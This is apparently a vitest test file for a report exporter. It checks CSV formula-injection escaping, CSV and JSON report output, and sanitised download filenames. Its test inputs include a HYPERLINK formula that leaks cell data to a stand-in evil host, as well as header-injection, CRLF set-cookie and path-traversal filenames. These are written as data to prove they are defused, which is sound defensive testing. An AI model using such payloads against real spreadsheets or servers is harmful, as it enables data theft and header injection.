import { describe, expect, it } from 'vitest';
import { writeCsvCell } from '../../server/platform/csv';
import { csvWriter } from '../../server/reports/csv';
import type { ReportHead } from '../../server/reports/file-writer';
import { jsonWriter } from '../../server/reports/json';
import { writeContentDisposition } from '../../server/rest/content-disposition';

const head: ReportHead = {
  ...{
    reportId: 'rep_1',
    name: 'Weekly',
    template: 'sessions',
    about: 'Every session.',
    integrationName: 'University',
  },
  ...{
    listTitle: 'Sessions',
    parameters: { days: 7 },
    startAt: 'a',
    endAt: 'b',
    sessionsKeptFrom: null,
    requestedAt: 'c',
  },
  columns: [
    { key: 'sessionId', title: 'Session' },
    { key: 'flags', title: 'Flags' },
    { key: 'score', title: 'Score' },
  ],
};

describe('a cell of CSV', () => {
  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    [null, ''],
    [-0.5, '-0.5'],
    [0, '0'],
    [true, 'true'],
    [['webdriver', 'a;b'], 'webdriver; a;b'],
    [[], ''],
    ['Ångström 李 עברית', 'Ångström 李 עברית'],
  ])('%j is written as %s', (cell, written) => {
    expect(writeCsvCell(cell)).toBe(written);
  });

  it.each([
    ...['=1+1', '+1', '-1', '@SUM(A1)', ' =1', '\u00a0=1', '\ufeff=1', '\t', '\rx'],
    ...['＝1', '＋1', '－1', '＠x', '=HYPERLINK("https://evil.example/?"&A1)'],
  ])('%j never begins a formula', (text) => {
    const written = writeCsvCell(text);
    const value = written.startsWith('"') ? written.slice(1, -1).replaceAll('""', '"') : written;
    expect(value).toBe(`'${text}`);
    expect(writeCsvCell([text, 'x']).replace(/^"/, '')).toMatch(/^'/);
  });
});

describe('a cell of CSV that a spreadsheet would split', () => {
  it.each([
    ['a;=1', "a;'=1"],
    ['a\t=1', "a\t'=1"],
    ['a\n=1', "a\n'=1"],
    ['a\r\n@x', "a\r\n'@x"],
    ['a; \u00a0＝1', "a;' \u00a0＝1"],
    // Such a spreadsheet reads the doubled quote after the semicolon as an empty text in quotes, and then the formula.
    ['a;"=1', `a;'"=1`],
    ['a;;=1;-2', "a;;'=1;'-2"],
    ['\t=1', "'\t'=1"],
    ['a; b\n* c = d', 'a; b\n* c = d'],
  ])('%j begins a formula nowhere', (text, safe) => {
    const written = writeCsvCell(text);
    expect(written.startsWith('"') ? written.slice(1, -1).replaceAll('""', '"') : written).toBe(safe);
    expect(writeCsvCell(['x', text]).replaceAll('""', '"')).toContain(safe.replace(/^'/, ''));
  });

  it.each([' ', ';', '\t', ';"', '; \n'])('is written in linear time, also if it repeats %j', (part) => {
    const text = part.repeat(100_000);
    expect(writeCsvCell(text).length).toBeGreaterThanOrEqual(text.length);
  });
});

describe('a file', () => {
  const rows = [
    ['ses_1', ['a', 'b'], 0.5],
    ['ses_2', [], null],
    ['ses_3', ['=c'], 1],
  ];

  it('as CSV has a byte order mark, names, and lines that end as RFC 4180 says', () => {
    const file = csvWriter.begin(head, []) + csvWriter.writeRows(head, rows, true) + csvWriter.end(3);
    expect(file).toBe("\uFEFFsessionId,flags,score\r\nses_1,a; b,0.5\r\nses_2,,\r\nses_3,'=c,1\r\n");
  });

  it.each([
    ['one part', [rows]],
    ['parts', [rows.slice(0, 1), rows.slice(1)]],
    ['an empty part first', [[], rows]],
    ['an empty part last', [rows, []]],
  ])('as JSON is one object, written in %s', (_name, parts) => {
    let count = 0;
    const written = parts.map((part) => {
      const text = jsonWriter.writeRows(head, part, count === 0);
      count += part.length;
      return text;
    });
    const numbers = [{ key: 'total', title: 'Total', value: 3 }];
    const file = JSON.parse(
      jsonWriter.begin(head, [{ key: 'totals', title: 'Totals', numbers }]) + written.join('') + jsonWriter.end(count),
    );
    expect(file).toEqual({
      report: { ...head, columns: undefined, listTitle: undefined },
      sections: { totals: { total: 3 } },
      rows: rows.map(([sessionId, flags, score]) => ({ sessionId, flags, score })),
      rowCount: 3,
    });
  });

  it('as JSON may be empty', () => {
    const file = jsonWriter.begin(head, []) + jsonWriter.writeRows(head, [], true) + jsonWriter.end(0);
    expect(JSON.parse(file)).toMatchObject({ sections: {}, rows: [], rowCount: 0 });
  });
});

describe('the name of a download', () => {
  it.each([
    ['Weekly bots', 'Weekly bots', 'Weekly%20bots'],
    ['Käthe’s “file”', 'K_the_s _file_', 'K%C3%A4the%E2%80%99s%20%E2%80%9Cfile%E2%80%9D'],
    ['a"; filename="b.exe', 'a__ filename=_b.exe', 'a_%3B%20filename%3D_b.exe'],
    ['../../etc/passwd', '_.._etc_passwd', '_.._etc_passwd'],
    ['line\r\nset-cookie: x', 'line__set-cookie_ x', 'line__set-cookie_%20x'],
    ['100% (it’s)', '100_ (it_s)', '100%25%20%28it%E2%80%99s%29'],
    ['\u202eexe.report', '_exe.report', '_exe.report'],
    ['李小龙', '___', '%E6%9D%8E%E5%B0%8F%E9%BE%99'],
    ['...', 'report', 'report'],
    ['', 'report', 'report'],
  ])('%j is safe in each of its forms', (name, ascii, encoded) => {
    const header = writeContentDisposition(name, 'csv');
    expect(header).toBe(`attachment; filename="${ascii}.csv"; filename*=UTF-8''${encoded}.csv`);
    expect(new Headers({ 'content-disposition': header }).get('content-disposition')).toBe(header);
  });

  it('is cut by characters, never within one', () => {
    const header = writeContentDisposition('😀'.repeat(500), 'pdf');
    expect(decodeURIComponent(header.split("UTF-8''")[1]!)).toBe(`${'😀'.repeat(120)}.pdf`);
  });
});
